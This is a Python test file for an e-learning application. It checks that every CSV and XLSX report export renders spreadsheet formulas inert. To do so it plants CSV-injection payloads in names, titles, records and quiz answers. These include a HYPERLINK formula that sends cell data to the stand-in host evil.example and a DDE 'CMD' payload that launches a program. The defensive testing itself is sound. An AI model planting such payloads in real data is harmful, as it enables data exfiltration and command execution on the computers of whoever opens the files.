"""No export carries a live formula (review-security.md F4): a learner's name from an
import file, a trainer's course title, a learner's training record and answers are
planted with formulas, and every CSV and XLSX export is read back."""

import csv
import io
from datetime import date

import openpyxl
import pytest
import sqlalchemy as sa

from elearn import db
from elearn.models import Course, CourseTrainer, MandatoryCourse, User
from elearn.models.types import LOCAL_TIME, utcnow
from elearn.progress.external import record_external, review
from elearn.reports.export import FORMULA_STARTS
from elearn.testing import NIPS, login, quiz_file
from tests.courses import finish

NAME = '=HYPERLINK("http://evil.example/?"&A2&B2,"detail")'
TITLE = "=1+2 Kursus Jahat"
QUIZ = "## Jawab {tipe=isian}\nApa?\n\n= benar\n"


@pytest.fixture
def planted(app, client, publish, make_user):
    """A learner whose name is a formula has completed a course whose title is one, and
    has training done elsewhere verified whose title and organiser are."""
    course = {
        "kursus.md": f'---\nid: jahat\njudul: "{TITLE}"\njp: 2\n---\nIsi.\n',
        "01-kuis.md": quiz_file(QUIZ),
    }
    publish(course)
    trainer = make_user("trainer")
    admin = make_user("admin")
    learner = make_user("learner", name=NAME)
    with app.app_context():
        session = db.session()
        course_id = session.scalar(sa.select(Course.id))
        session.add(CourseTrainer(course_id=course_id, user_id=trainer.id))
        session.add(MandatoryCourse(course_id=course_id, position="", due_date=date(2020, 1, 1)))
        record = record_external(
            session,
            session.get(User, learner.id),
            title="@SUM(A1:A9)",
            organiser="+1-2",
            start_date=date(utcnow().year, 1, 1),
            end_date=date(utcnow().year, 1, 2),
            jp=3,
            competency="teknis",
            certificate_number="-2+3",
            certificate_pdf=b"%PDF-1.4",
        )
        review(session, session.get(User, admin.id), record, True)
        session.commit()
    login(client, NIPS["learner"])
    client.post("/courses/jahat/enrol", data={"csrf_token": _token(client, "/courses/jahat")})
    started = client.post(
        "/courses/jahat/items/kuis/start", data={"csrf_token": _token(client, "/courses/jahat")}
    )
    finish(client, started.location, {"jawab": "=CMD|' /C calc'!A0"})
    return utcnow().astimezone(LOCAL_TIME).year


def _token(client, page):
    from elearn.testing import csrf_token

    return csrf_token(client, page)


def exports(year):
    yield "admin", f"/admin/reports/siasn?tahun={year}"
    yield "admin", f"/admin/reports/completions?tahun={year}"
    yield "admin", f"/admin/reports/jp?tahun={year}"
    yield "admin", "/admin/reports/mandatory?status=semua"
    yield "trainer", "/author/courses/jahat/reports"
    yield "trainer", "/author/courses/jahat/reports?tabel=kuis"
    yield "trainer", "/author/courses/jahat/reports/quiz/kuis"


def assert_inert(body: bytes, fmt: str, url: str) -> list[str]:
    """Every cell as text; fails on a live formula."""
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.value for c in cells if c.data_type == "f"], url
        return [str(c.value) for c in cells if c.value is not None]
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    texts = [cell for row in rows for cell in row]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)], url
    return texts


def test_no_export_carries_a_live_formula(app, planted):
    year = planted
    clients = {}
    for role in ("admin", "trainer"):
        clients[role] = app.test_client()
        login(clients[role], NIPS[role])
    seen = []
    for role, url in exports(year):
        for fmt in ("csv", "xlsx"):
            response = clients[role].get(f"{url}{'&' if '?' in url else '?'}format={fmt}")
            assert response.status_code == 200, url
            seen += assert_inert(response.data, fmt, url)
    audit = clients["admin"].get("/admin/audit?format=csv")
    seen += assert_inert(audit.data, "csv", "/admin/audit")
    learner_id = None
    with app.app_context():
        learner_id = db.session().scalar(sa.select(User.id).where(User.full_name == NAME))
    drill = f"/author/courses/jahat/reports/learners/{learner_id}"
    for fmt in ("csv", "xlsx"):
        seen += assert_inert(clients["trainer"].get(f"{drill}?format={fmt}").data, fmt, drill)
    planted_texts = [NAME, TITLE, "@SUM(A1:A9)", "+1-2"]
    for text in planted_texts:  # each planted formula reached some export, made inert
        assert any(text in cell for cell in seen), text
